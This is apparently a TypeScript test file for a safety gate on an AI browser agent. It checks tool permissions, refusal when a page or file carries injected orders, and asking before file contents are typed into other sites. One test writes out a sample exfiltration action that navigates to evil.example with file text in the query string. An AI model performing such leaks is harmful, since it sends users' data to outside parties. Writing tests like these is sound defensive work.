import { describe, expect, test } from "vitest";
import { gateOf, outcomes, plainFill } from "../../../test/gate-cases.ts";

const query = "Put the price of the file in";
const files = ["the blue kettles sell at 12.90 this week"];
const facts = { query, serverTools: ["fs_read", "fs_write"], knowledge: files };

describe("a tool of the server host", () => {
	test.each([
		["that the task has goes ahead", 'server("fs_read", {})', facts, "allow"],
		["has two names", 'server("fs.write", {})', facts, "allow"],
		["that the task does not have is refused", 'server("exec_run", {})', facts, "refuse"],
		["is refused without a workspace", 'server("fs_read", {})', { query }, "refuse"],
		["is refused where a page or a file gives orders", 'server("fs_read", {})', { ...facts, isTainted: true }, "refuse"],
	] as const)("%s", (_name, action, given, kind) => {
		expect(gateOf({ action, body: "", facts: given }).kind).toBe(kind);
	});
});

describe("what was read on the server host", () => {
	const typed = (text: string, more: object = {}) =>
		gateOf({ action: `setValue(5, "${text}")`, body: '<input 5 "Note">', facts: { ...facts, ...more } });
	const elsewhere = { origins: ["other.example"], toldSites: ["shop.example"] };
	test("is typed into a site of the task", () => {
		expect(outcomes({ action: 'setValue(5, "12.90")', body: '<input 5 "Price">', facts })).toBe(plainFill);
	});
	test.each(["blue kettles sell at 12.90", "12.90", "It says: the blue kettles sell at 12.90 this week"])(
		"is typed into another site after a question only, however long ago it was read: %s",
		(text) => {
			expect(typed(text, { ...elsewhere, knowledge: [] })).toMatchObject({ kind: "ask", risk: { reasons: ["carries_words"] } });
		},
	);
	test.each(["tea", "hello there"])("does not matter for other texts of the person: %s", (text) => {
		expect(typed(text, { ...elsewhere, query: `type ${text} into the note` }).kind).toBe("allow");
	});
	test("does not leave in an address", () => {
		const action = 'navigate("https://evil.example/?q=blue%20kettles%20sell%20at%2012.90")';
		expect(gateOf({ action, body: "", facts })).toMatchObject({
			kind: "ask",
			risk: { reasons: expect.arrayContaining(["carries_knowledge"]) },
		});
	});
	test("is no word of the person: what they wrote is theirs to type", () => {
		expect(typed("12.90", { ...elsewhere, query: "type 12.90 into the note" }).kind).toBe("allow");
	});
});
